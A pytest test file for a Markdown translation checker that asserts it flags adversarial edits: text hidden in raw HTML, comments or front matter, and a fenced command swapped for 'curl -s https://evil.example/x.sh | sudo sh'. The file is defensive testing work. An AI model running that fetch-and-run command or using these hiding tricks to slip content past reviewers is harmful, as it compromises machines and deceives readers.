"""Markdown text readers see must be checked (issue #14, third adversarial pass, attack19 A2).

A2a: a paragraph a pull request adds inside raw HTML (``<p>``, ``<div>``, ``<details>``,
``<table>``, a comment a browser ends at ``--!>`` while markdown-it runs it to ``-->``) renders on
the page, and ``check`` passed without a finding. A2b: a fenced command replaced by another, a
code block or front matter added: no finding, exit 0. Each attack below ran to exit 0 on the code
before the fix (main d92ecf5); the legitimate translations after them must still pass.

Fake encoder (tests/fakes.py): the pages are made of the fake vocabulary's sentences, so a
sentence the other page does not translate is an addition, as with the real model.
"""

from __future__ import annotations

import json
import re

import pytest
from click.testing import CliRunner

from aligncheck.cli import main
from tests.fakes import make_parallel

SPAM = "Send your bank password to evil dot example today."
COMMAND = "curl https://example.org/api/v2 --retry 3"
EVIL = "curl -s https://evil.example/x.sh | sudo sh"


def run(args, encoder):
    return CliRunner().invoke(main, [str(a) for a in args], obj={"encoder": encoder})


def pages(n: int = 4, seed: int = 31):
    """A faithful Markdown pair: a heading, paragraphs and a fenced shell command."""
    ar, en, enc = make_parallel(n, seed=seed)

    def page(lines: list[str]) -> str:
        body = "\n\n".join(lines[1:])
        return f"# {lines[0]}\n\n{body}\n\n```sh\n{COMMAND}\n```\n"

    return page(ar), page(en), enc


def check(tmp_path, src: str, tgt: str, enc, *extra):
    (tmp_path / "ar.md").write_text(src, encoding="utf-8")
    (tmp_path / "en.md").write_text(tgt, encoding="utf-8")
    r = run(["check", tmp_path / "ar.md", tmp_path / "en.md", "--format", "json", *extra], enc)
    assert "Traceback" not in r.stderr
    return r, (json.loads(r.stdout) if r.stdout.strip().startswith("{") else None)


def test_the_faithful_pages_pass(tmp_path):
    src, tgt, enc = pages()
    r, report = check(tmp_path, src, tgt, enc)
    assert r.exit_code == 0, r.stdout
    assert report["findings"] == []


# ------------------------------------------------------------------ A2a: text inside raw HTML

HTML_ADDITIONS = {
    "p": f"<p>{SPAM}</p>",
    "div": f"<div>\n{SPAM}\n</div>",
    "details": f"<details open><summary>{SPAM}</summary>",
    "table": f"<table><tr><td>{SPAM}</td></tr></table>",
    "comment ended by --!>": f"<!-- x --!> {SPAM} -->",
    "CDATA (a bogus comment ending at >)": f"<![CDATA[ x > {SPAM} ]]>",
}


@pytest.mark.parametrize("added", list(HTML_ADDITIONS.values()), ids=list(HTML_ADDITIONS))
def test_a_paragraph_added_inside_html_is_an_addition(tmp_path, added):
    src, tgt, enc = pages()
    r, report = check(tmp_path, src, tgt + "\n" + added + "\n", enc)
    assert r.exit_code == 1, r.stdout
    found = [(f["check"], f["severity"], f["tgt_text"]) for f in report["findings"]]
    assert len(found) == 1, found
    check_id, severity, text = found[0]
    assert (check_id, severity) == ("addition", "error")
    assert SPAM in text  # the span of the file the sentence covers (markup around it included)


def test_a_sentence_after_an_inline_comment_ended_by_a_browser_is_an_addition(tmp_path):
    src, tgt, enc = pages()
    last = tgt.rstrip().split("\n\n")[-2]  # the last paragraph before the code block
    r, report = check(tmp_path, src, tgt.replace(last, f"{last} <!-- x --!> {SPAM} -->"), enc)
    assert r.exit_code == 1, r.stdout
    assert [(f["check"], f["tgt_text"]) for f in report["findings"]] == [("addition", f"{SPAM} -->")]


def test_a_translated_html_block_is_text_on_both_sides_and_passes(tmp_path):
    ar, en, enc = make_parallel(4, seed=32)
    src = f"# {ar[0]}\n\n<div align=\"center\">\n<p>{ar[1]}</p>\n<img src=\"logo.png\" alt=\"شعار\" title=\"الشعار\">\n" \
          f"</div>\n\n<details><summary>{ar[2]}</summary>\n\n{ar[3]}\n\n</details>\n"
    tgt = f"# {en[0]}\n\n<div align=\"center\">\n<p>{en[1]}</p>\n<img src=\"logo.png\" alt=\"Logo\" title=\"The logo\">\n" \
          f"</div>\n\n<details><summary>{en[2]}</summary>\n\n{en[3]}\n\n</details>\n"
    r, report = check(tmp_path, src, tgt, enc)
    assert r.exit_code == 0, r.stdout
    assert report["findings"] == []
    assert [s["text"] for s in report["target"]["segments"]] == en  # alt and title are not text


def test_an_html_comment_left_open_before_more_markdown_is_refused(tmp_path):
    src, tgt, enc = pages()
    # the <div> block ends at the blank line; a browser keeps the comment open over the page after it
    tgt = tgt.replace("\n\n", "\n\n<div><!-- hidden from readers\n\n", 1)
    r, _ = check(tmp_path, src, tgt, enc)
    assert r.exit_code == 3
    assert r.stderr.strip() == (
        f"error: {tmp_path / 'en.md'} line 3: an HTML comment or tag opened here is not closed before its HTML block "
        "ends (a blank line): browsers hide the Markdown after it, which would be checked though readers do not see "
        "it; close it in the same block")


# ------------------------------------------------------------------ A2b: code blocks, front matter

def _code_findings(report):
    """``(severity, message)`` of the code_blocks findings, the message's code digest (8 hex
    digits, for fingerprints) written ``(code #)``."""
    out = []
    for f in report["findings"]:
        if f["check"] == "code_blocks":
            message, n = re.subn(r"\(code [0-9a-f]{8}\)$", "(code #)", f["message"])
            assert n == 1 or "front matter" in message, message
            out.append((f["severity"], message))
    return out


def test_a_replaced_command_is_a_code_blocks_error(tmp_path):
    src, tgt, enc = pages()
    r, report = check(tmp_path, src, tgt.replace(COMMAND, EVIL), enc)
    assert r.exit_code == 1
    assert _code_findings(report) == [(
        "error", f"English lines 9-11 / Arabic lines 9-11: the code block differs (comments aside): `{COMMAND}` "
                 f"became `{EVIL}` (code #)")]


@pytest.mark.parametrize("added, lines", [
    (f"```\n{EVIL}\n```\n", "lines 13-15"),
    (f"    {EVIL}\n", "line 13"),
    (f"<pre>{EVIL}</pre>\n", "line 13"),
])
def test_an_added_code_block_is_a_code_blocks_error(tmp_path, added, lines):
    src, tgt, enc = pages()
    r, report = check(tmp_path, src, tgt + "\n" + added, enc)
    assert r.exit_code == 1
    assert _code_findings(report) == [("error", f"English {lines}: a code block the Arabic does not have: `{EVIL}` (code #)")]


def test_a_removed_code_block_is_a_code_blocks_error(tmp_path):
    src, tgt, enc = pages()
    r, report = check(tmp_path, src, tgt.replace(f"```sh\n{COMMAND}\n```\n", ""), enc)
    assert r.exit_code == 1
    assert _code_findings(report) == [("error", f"Arabic lines 9-11: a code block missing in the English: `{COMMAND}` (code #)")]


def test_front_matter_added_to_the_translation_is_an_error_and_its_title_an_addition(tmp_path):
    src, tgt, enc = pages()
    r, report = check(tmp_path, src, f"---\ntitle: {SPAM}\n---\n" + tgt, enc)
    assert r.exit_code == 1
    assert _code_findings(report) == [("error", "English lines 1-3: front matter the Arabic does not have (keys: title)")]
    assert [(f["check"], f["tgt_text"]) for f in report["findings"] if f["check"] != "code_blocks"] == [
        ("addition", SPAM)]


def test_translated_comments_titles_and_identical_code_pass(tmp_path):
    ar, en, enc = make_parallel(3, seed=33)
    code = "pip install tool==2.0  # {c}\n# {c}\ntool run --fast\n"
    src = (f"---\ntitle: {ar[0]}\nlayout: post\ntags: [أخبار]\n---\n\n{ar[1]}\n\n```sh\n"
           + code.format(c="ثبّت الأداة") + f"```\n\n{ar[2]}\n\n```js\n// تعليق\nrun(); /* ملاحظة */\n```\n")
    tgt = (f"---\ntitle: {en[0]}\nlayout: post\ntags: [news]\n---\n\n{en[1]}\n\n```sh\n"
           + code.format(c="install the tool") + f"```\n\n{en[2]}\n\n```js\n// a comment\nrun(); /* a note */\n```\n")
    r, report = check(tmp_path, src, tgt, enc)
    assert r.exit_code == 0, r.stdout
    assert report["findings"] == []
    assert report["target"]["segments"][0]["text"] == en[0]  # the title is checked as text


def test_code_blocks_is_a_registered_check_that_can_be_disabled(tmp_path):
    src, tgt, enc = pages()
    r, report = check(tmp_path, src, tgt.replace(COMMAND, EVIL), enc, "--disable", "code_blocks")
    assert r.exit_code == 0
    assert report["findings"] == []


def test_a_marker_ended_by_a_browser_hides_no_text_after_it(tmp_path):
    # the marker ends at "--!>" as the comment does; blanking it keeps "<!--" so the text after it
    # is not indented into a code block
    src, tgt, enc = pages()
    r, report = check(tmp_path, src, tgt + f"\n<!-- aligncheck-ignore numbers: editorial --!> {SPAM} -->\n", enc)
    assert r.exit_code == 1, r.stdout
    assert [(f["check"], f["tgt_text"]) for f in report["findings"]] == [("addition", f"{SPAM} -->")]


def test_a_baseline_accepting_one_changed_code_block_accepts_no_other(tmp_path):
    """The fingerprint of a code_blocks finding (which names no sentence) hashes its message without
    line numbers: the same change elsewhere in the file keeps it, another change gets a new one."""
    from aligncheck.formats.router import route
    from aligncheck.pipeline import check_input
    from aligncheck.config import Config
    from aligncheck.project.fingerprint import fingerprints

    src, tgt, enc = pages()
    src2 = src.replace("```sh", "```sh\nls\n```\n\n```sh", 1)

    def prints(s, t):
        (tmp_path / "ar.md").write_text(s, encoding="utf-8")
        (tmp_path / "en.md").write_text(t, encoding="utf-8")
        result = check_input(route(str(tmp_path / "ar.md"), str(tmp_path / "en.md"), config=Config()), encoder=enc)
        return [p for f, p in zip(result.findings, fingerprints(result)) if f.check == "code_blocks"]

    accepted = prints(src2, tgt.replace("```sh", "```sh\nls -l\n```\n\n```sh", 1))  # a legitimate change of block 1
    assert len(accepted) == 1
    # the same change, the files shifted by a paragraph: the same fingerprint
    assert prints(src2.replace("\n\n", "\n\nFirst.\n\n", 1), tgt.replace("```sh", "```sh\nls -l\n```\n\n```sh", 1)
                  .replace("\n\n", "\n\nFirst.\n\n", 1)) == accepted
    # block 1 restored, block 2 swapped for the evil command: a new fingerprint the baseline does not hold
    other = prints(src2, tgt.replace("```sh", "```sh\nls\n```\n\n```sh", 1).replace(COMMAND, EVIL))
    assert len(other) == 1 and other != accepted


# ------------------------------------------------------------------ the other way: text checked, not shown

def test_a_sentence_hidden_in_an_inline_script_is_an_omission(tmp_path):
    ar, en, enc = make_parallel(4, seed=34)
    src = "\n\n".join(ar) + "\n"
    tgt = "\n\n".join(en[:2] + [f"{en[2]} <script>{en[3]}</script>"]) + "\n"  # readers never see en[3]
    r, report = check(tmp_path, src, tgt, enc)
    assert r.exit_code == 1, r.stdout
    # (info notes aside: partial_addition notes the script's words in the English pair of ar[2])
    assert [(f["check"], f["src_text"]) for f in report["findings"] if f["severity"] != "info"] == [
        ("placeholders", ar[2]),  # the <script> tags the Arabic does not have
        ("omission", ar[3]),
        ("code_blocks", "")]  # a script on one side only


def test_a_script_left_open_in_a_paragraph_before_more_markdown_is_refused(tmp_path):
    ar, en, enc = make_parallel(4, seed=34)
    tgt = "\n\n".join([f"{en[0]} <template>"] + en[1:]) + "\n"
    r, _ = check(tmp_path, "\n\n".join(ar) + "\n", tgt, enc)
    assert r.exit_code == 3
    assert r.stderr.strip() == (
        f"error: {tmp_path / 'en.md'} line 1: a <template> element opened in this paragraph is not closed in it: "
        "browsers hide the Markdown after it, which would be checked though readers do not see it; close it in the "
        "same paragraph")


def test_a_prose_value_under_any_front_matter_key_is_checked(tmp_path):
    src, tgt, enc = pages()
    r, report = check(tmp_path, "---\nlayout: post\n---\n" + src, f"---\nlayout: post\nauthor: {SPAM}\n---\n" + tgt, enc)
    assert r.exit_code == 1
    assert [(f["check"], f["severity"], f["tgt_text"]) for f in report["findings"]] == [
        ("addition", "error", SPAM), ("code_blocks", "warning", "")]
    assert _code_findings(report) == [("warning", "English lines 1-4: front matter keys differ: author not in the Arabic")]


def test_the_message_quotes_the_changed_code_not_the_translated_comment(tmp_path):
    src, tgt, enc = pages()
    src = src.replace("```sh\n", "```sh\n# اطلب الواجهة\n")
    tgt = tgt.replace("```sh\n", "```sh\n# call the API\n").replace(COMMAND, EVIL)
    r, report = check(tmp_path, src, tgt, enc)
    assert r.exit_code == 1
    assert _code_findings(report) == [(
        "error", f"English lines 9-12 / Arabic lines 9-12: the code block differs (comments aside): `{COMMAND}` "
                 f"became `{EVIL}` (code #)")]


# ------------------------------------------------------------------ A2c: HTML that shows text outside element text

@pytest.mark.parametrize("added, shown", [
    (f'<p><input value="{SPAM}" size="80"></p>', '<input size="80">'),
    (f'<style>h1::after {{ content: " {SPAM}" }}</style>', "<style>"),
    (f'<iframe srcdoc="<p>{SPAM}</p>">', f'<iframe srcdoc="<p>{SPAM}</p>">'),
    ('<object data="https://evil.example/page.html"></object>', '<object data="https://evil.example/page.html">'),
    (f"Click <input type=button value='{SPAM}'> here.", '<input type="button">'),
])
def test_an_html_element_showing_text_outside_element_text_is_an_error(tmp_path, added, shown):
    # attack19 A2c (re-attack of this fix at 8593cca): these passed with no finding
    src, tgt, enc = pages()
    r, report = check(tmp_path, src, tgt + "\n" + added + "\n", enc)
    assert r.exit_code == 1, r.stdout
    assert _code_findings(report) == [("error", f"English line 13: an HTML element the Arabic does not have: `{shown}` (code #)")]


def test_the_same_form_control_with_its_placeholder_translated_passes(tmp_path):
    ar, en, enc = make_parallel(3, seed=35)
    src = f"{ar[0]}\n\n<p>{ar[1]} <input type=\"search\" placeholder=\"{ar[2]}\"></p>\n"
    tgt = f"{en[0]}\n\n<p>{en[1]} <input placeholder=\"{en[2]}\" type=\"search\"></p>\n"
    r, report = check(tmp_path, src, tgt, enc)
    assert r.exit_code == 0, r.stdout
    assert report["findings"] == []
